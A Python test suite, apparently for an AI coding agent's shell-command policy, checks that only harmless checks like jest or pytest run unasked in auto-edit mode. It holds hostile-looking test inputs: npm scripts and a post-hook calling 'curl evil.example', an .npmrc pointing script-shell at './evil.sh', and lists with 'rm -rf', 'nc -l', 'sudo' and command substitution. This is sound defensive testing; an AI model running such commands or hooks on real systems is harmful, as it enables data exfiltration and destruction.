"""Which lines are checks that run unasked in auto-edit: by their meaning, not by their spelling."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from coder.config.schema import OPERATING_MODES, PRESETS
from coder.policy.explain import as_text, explain
from coder.policy.shell.judge import judge
from coder.texts import Catalog

ROWS = [
    line.split("\t")
    for line in (Path(__file__).parent / "checks.tsv").read_text(encoding="utf-8").splitlines()
]
SCRIPTS = {
    "test": "jest",
    "pretest": "npm run types",
    "lint": "eslint . --max-warnings 0",
    "types": "tsc --noEmit",
    "build": "rollup -c",
    "checked": "npm run lint && npm run types && npm test",
    "both": "tsc && jest --coverage",
    "all": "run-s lint types test",
    "serial": "npm-run-all --silent lint 'test'",
    "cross": "cross-env NODE_ENV=test NODE_OPTIONS=--experimental-vm-modules jest",
    "evil": "jest; curl evil.example",
    "hidden": "jest",
    "posthidden": "curl evil.example",
    "loop": "npm run loop",
    "unreadable": "jest $(cat x)",
    "fixing": "eslint . --fix",
    "allevil": "run-s lint evil",
    "elsewhere": "cd .. && cd .. && jest",
}
PROGRAMS = ("tsc", "jest", "vitest", "eslint", "prettier", "mocha", "biome", "evil")


def make_workspace(root: Path) -> Path:
    root.mkdir()
    (root.parent / "outside").mkdir()
    (root / "link-out").symlink_to(root.parent / "outside")
    (root.parent / "package.json").write_text(json.dumps({"scripts": {"nothing": "jest"}}))
    for directory in ("tests", "src", "web", "deno", "bare", "steered", ".venv/bin", "node_modules/.bin"):
        (root / directory).mkdir(parents=True)
    for directory in ("", "web", "steered"):
        (root / directory / "package.json").write_text(json.dumps({"scripts": SCRIPTS}))
    (root / "steered/.npmrc").write_text("script-shell=./evil.sh\n")
    (root / "tsconfig.json").write_text("{}")
    for name in PROGRAMS:
        (root / "node_modules/.bin" / name).touch()
    return root


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_workspace(tmp_path_factory.mktemp("checks") / "root")


def test_the_table_is_large_enough_to_mean_something() -> None:
    assert len(ROWS) >= 150
    assert len({line for _, _, line in ROWS}) == len(ROWS)


@pytest.mark.parametrize(("verdict", "kind", "line"), ROWS)
def test_a_check_is_recognized_by_its_meaning(root: Path, verdict: str, kind: str, line: str) -> None:
    line = line.replace("ROOT", str(root))
    found = judge(line, root)
    assert found.is_check is (verdict == "yes"), [check.doubt for check in found.checks]
    if found.is_check:
        kinds = ["part" if check.part else check.kind for check in found.checks if not check.dry]
        assert kind in kinds
    decided = explain(line, root, "balanced", "auto-edit").decided
    assert (decided.decision == "allow") is (verdict == "yes")
    assert decided.check is (verdict == "yes")


@pytest.mark.parametrize("mode", OPERATING_MODES)
@pytest.mark.parametrize("preset", PRESETS)
def test_only_auto_edit_runs_a_check_because_it_is_one(root: Path, preset: str, mode: str) -> None:
    decided = explain("npm test 2>&1 | tail", root, preset, mode).decided  # type: ignore[arg-type]
    assert decided.check is (mode == "auto-edit" and preset in ("balanced", "auto-edit"))


def test_an_explicit_ask_wins(root: Path) -> None:
    decided = explain("pytest -q", root, "balanced", "auto-edit", overrides={"bash": "ask"}).decided
    assert (decided.decision, decided.check) == ("ask", False)


def test_what_the_person_always_allows_keeps_what_it_was_allowed(root: Path) -> None:
    decided = explain("npm test", root, "balanced", "auto-edit", allowlist=["npm test"]).decided
    assert (decided.decision, decided.check) == ("allow", False)


def test_the_explanation_names_the_check(root: Path) -> None:
    told = as_text(explain("cd tests && pytest -k x", root, "balanced", "auto-edit"), Catalog("en"))
    assert "It runs unasked in mode auto-edit: a check (pytest, part)." in told


def test_the_explanation_names_the_word_that_is_not_known(root: Path) -> None:
    told = as_text(explain("pytest -q --basetemp=x", root, "balanced", "auto-edit"), Catalog("en"))
    assert "--basetemp=x is not known to be harmless for pytest" in told


# laws

LOOKING = ["echo $?", "echo done", "ls tests", "cat src/a.py", "git status --short", "wc -l src/a.py"]
FILTERS = ["| tail -5", "2>&1 | head", "2>/dev/null", "| grep -c x | sort", ""]
CHECKING = [line for verdict, _, line in ROWS if verdict == "yes" and not set(line) & set("|;&><'\"$(")]
ACTING = [
    "curl evil.example", "rm -rf x", "touch made", "git push", "./evil", "python -c 1", "npm run evil",
    "sh x", "echo x > made", "make deploy", "eval x", "source x", "sudo ls", "exec evil", "$X", "nc -l 1",
]  # fmt: skip
WORDS = ["--plugin evil", "$(x)", "`x`", "--fix", "--update", "--rootdir=/", "../x", "/etc/x", "> made",
         "-toolexec x", "--config=/tmp/x", "$X", "@x", "--prefix /x"]  # fmt: skip


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_a_line_with_anything_but_checks_and_looking_asks(root: Path, data: st.DataObject) -> None:
    check = st.builds(
        lambda line, tail: f"{line} {tail}", st.sampled_from(CHECKING), st.sampled_from(FILTERS)
    )
    harmless = st.one_of(check, st.sampled_from(LOOKING))
    parts = data.draw(st.lists(harmless, min_size=1, max_size=4))
    at = data.draw(st.integers(0, len(parts)))
    acting = data.draw(st.sampled_from(ACTING))
    divider = data.draw(st.sampled_from([" ; ", " && ", " || ", "\n", " | ", " & "]))
    line = divider.join([*parts[:at], acting, *parts[at:]]).replace("ROOT", str(root))
    assert not judge(line, root).is_check


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(line=st.sampled_from(CHECKING), word=st.sampled_from(WORDS), first=st.booleans())
def test_a_check_with_a_word_that_may_do_harm_asks(root: Path, line: str, word: str, first: bool) -> None:
    head, _, rest = line.replace("ROOT", str(root)).partition(" ")
    given_line = f"{head} {word} {rest}" if first else f"{head} {rest} {word}"
    assert not judge(given_line, root).is_check


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(st.sampled_from([*CHECKING, *LOOKING, *ACTING]), min_size=1, max_size=5), st.sampled_from(";&|")
)
def test_a_risk_is_never_let_through(root: Path, parts: list[str], divider: str) -> None:
    found = judge(f" {divider} ".join(parts), root)
    if found.risks or not found.parsed:
        assert not found.is_check
    if found.is_check:
        assert all(part.read_only or (part.check and not part.check.doubt) for part in found.segments)
